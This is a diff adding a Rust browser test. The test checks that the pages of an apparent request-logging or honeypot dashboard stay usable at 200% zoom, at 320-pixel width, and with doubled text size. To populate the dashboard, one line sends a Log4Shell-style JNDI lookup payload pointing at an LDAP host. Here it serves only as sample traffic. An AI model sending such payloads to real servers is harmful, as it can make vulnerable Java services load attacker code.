@@ -1,0 +1,152 @@
+//! Every page at 200 % and at 320 pixels, and with letters twice as large: nothing is cut off, covered or out of reach.
+//! WCAG 2.2, 1.4.4 and 1.4.10. Needs Chromium: `make test-browser`.
+
+use anyhow::{Context, ensure};
+use forever200_testkit::Stack;
+use forever200_testkit::browser::{Browser, LAPTOP};
+use serde_json::json;
+
+mod probes;
+
+/// Windows: width and height in CSS pixels, and zoom. 1280x720 at 200 %; 1280x1024 at 400 %, which is 320 wide.
+const WINDOWS: [(u32, u32, u32); 2] = [(640, 360, 2), (320, 256, 4)];
+
+/// What a page must not have, each with the element that has it.
+const FAULTS: &str = r#"
+    const faults = [];
+    const name = (it) => it.outerHTML.slice(0, 160);
+    const page = document.documentElement;
+    if (page.scrollWidth > innerWidth) faults.push(`${page.scrollWidth} pixels wide`);
+    const isShown = (it) => it.checkVisibility() && it.getBoundingClientRect().width > 1 && !it.closest('.hidden, .skip');
+    // Cut off: what is longer than its box and cannot be scrolled in it.
+    for (const it of document.querySelectorAll('body *')) {
+        const { overflowX, overflowY } = getComputedStyle(it);
+        const isCut = (overflow, inside, box) => ['hidden', 'clip'].includes(overflow) && inside > box + 1;
+        if (!isShown(it) || it.closest('svg')) continue;
+        if (isCut(overflowX, it.scrollWidth, it.clientWidth) || isCut(overflowY, it.scrollHeight, it.clientHeight)) faults.push(`cut off: ${name(it)}`);
+    }
+    // Covered, or out of reach: what can be used is in the window when it has the focus, and nothing lies over it.
+    const usable = [...document.querySelectorAll('a[href], button, input:not([type=hidden]), select, summary, textarea')].filter(isShown);
+    for (const it of usable) {
+        it.focus();
+        it.scrollIntoView({ block: 'center' });
+        // A link that is broken over lines has a box on each.
+        const boxes = [...it.getClientRects()].filter((box) => box.width > 1);
+        const hits = boxes.map((box) => {
+            const [x, y] = [box.left + box.width / 2, box.top + box.height / 2];
+            const top = document.elementFromPoint(x, y);
+            return y < 0 || y > innerHeight || (top !== null && (it.contains(top) || top.contains(it)));
+        });
+        if (document.activeElement !== it || hits.includes(false)) faults.push(`out of reach: ${name(it)}`);
+    }
+    // Two lines of text that lie over each other.
+    const texts = [];
+    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+    scrollTo(0, 0);
+    while (walker.nextNode()) {
+        const node = walker.currentNode;
+        if (!node.data.trim() || !isShown(node.parentElement) || node.parentElement.closest('pre, textarea, option, #more')) continue;
+        const range = document.createRange();
+        range.selectNodeContents(node);
+        for (const box of range.getClientRects()) if (box.width > 1) texts.push([box, node.data.trim().slice(0, 40)]);
+    }
+    texts.sort((a, b) => a[0].top - b[0].top);
+    for (const [index, [box, text]] of texts.entries()) {
+        for (const [other, more] of texts.slice(index + 1, index + 60)) {
+            const deep = Math.min(box.bottom, other.bottom) - Math.max(box.top, other.top);
+            const wide = Math.min(box.right, other.right) - Math.max(box.left, other.left);
+            // Boxes of letters are higher than letters.
+            if (deep > Math.min(box.height, other.height) * 0.4 && wide > 2) faults.push(`over each other: ${text} / ${more}`);
+        }
+    }
+    return faults.slice(0, 8);
+"#;
+
+/// A stack with some of everything, and the pages that show it.
+async fn full_ring() -> anyhow::Result<(Stack, Vec<String>)> {
+    let stack = Stack::start().await?;
+    for (sent, (_, bytes)) in (1..).zip(probes::probes()) {
+        stack.send(&bytes).await?;
+        stack.until_recorded(sent).await?;
+    }
+    let long = [
+        b"GET /",
+        &[b'w'; 900][..],
+        b"?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nX-Long-Name-Of-A-Header: ",
+        &[b'v'; 900],
+        b"\r\n\r\n",
+    ];
+    stack.send(&long.concat()).await?;
+    let total = stack.get("/home/api/stats").await?;
+    let total: serde_json::Value = serde_json::from_str(&total.text())?;
+    let newest = total["total"].as_u64().context("a number")? + 1;
+    stack.until_recorded(newest).await.ok();
+    let pages = [
+        "/home",
+        "/home?category=exploit&q=jndi&-source=me",
+        "/home?q=no+such",
+        "/home/labels",
+        "/home/labels?category=recon",
+        "/home?view=wall",
+        "/home/requests/1",
+        "/home/requests/9",
+        "/home/requests/9999",
+    ];
+    let mut pages: Vec<_> = pages.map(str::to_owned).into();
+    pages.push(format!("/home/requests/{newest}"));
+    Ok((stack, pages))
+}
+
+#[tokio::test(flavor = "multi_thread")]
+#[ignore = "needs Chromium: make test-browser"]
+async fn nothing_is_lost_at_200_percent_or_320_pixels() -> anyhow::Result<()> {
+    let (stack, pages) = full_ring().await?;
+    let browser = Browser::start(LAPTOP).await?;
+    let mut faults = Vec::new();
+    for (width, height, zoom) in WINDOWS {
+        browser.resize(width, height, zoom).await?;
+        for page in &pages {
+            browser
+                .open(&format!("http://{}{page}", stack.front()))
+                .await?;
+            // What only opens is there as well.
+            browser
+                .run("for (const it of document.querySelectorAll('details')) it.open = true")
+                .await?;
+            let found = browser.run(FAULTS).await?;
+            if found != json!([]) {
+                faults.push(format!("{page}, {width}x{height}: {found:#}"));
+            }
+        }
+    }
+    ensure!(faults.is_empty(), "{}", faults.join("\n"));
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+#[ignore = "needs Chromium: make test-browser"]
+async fn letters_may_be_twice_as_large() -> anyhow::Result<()> {
+    let (stack, pages) = full_ring().await?;
+    let browser = Browser::start(LAPTOP).await?;
+    let mut faults = Vec::new();
+    for page in &pages {
+        browser
+            .open(&format!("http://{}{page}", stack.front()))
+            .await?;
+        let size = "return parseFloat(getComputedStyle(document.querySelector('main p, main td, main li, main dt')).fontSize)";
+        let before = browser.run(size).await?.as_f64();
+        browser
+            .run("document.documentElement.style.fontSize = '200%'")
+            .await?;
+        let after = browser.run(size).await?.as_f64();
+        let is_larger = before
+            .zip(after)
+            .is_some_and(|(before, after)| after >= before * 1.9);
+        let found = browser.run(FAULTS).await?;
+        if found != json!([]) || !is_larger {
+            faults.push(format!("{page}: {before:?} to {after:?}, {found:#}"));
+        }
+    }
+    ensure!(faults.is_empty(), "{}", faults.join("\n"));
+    Ok(())
+}
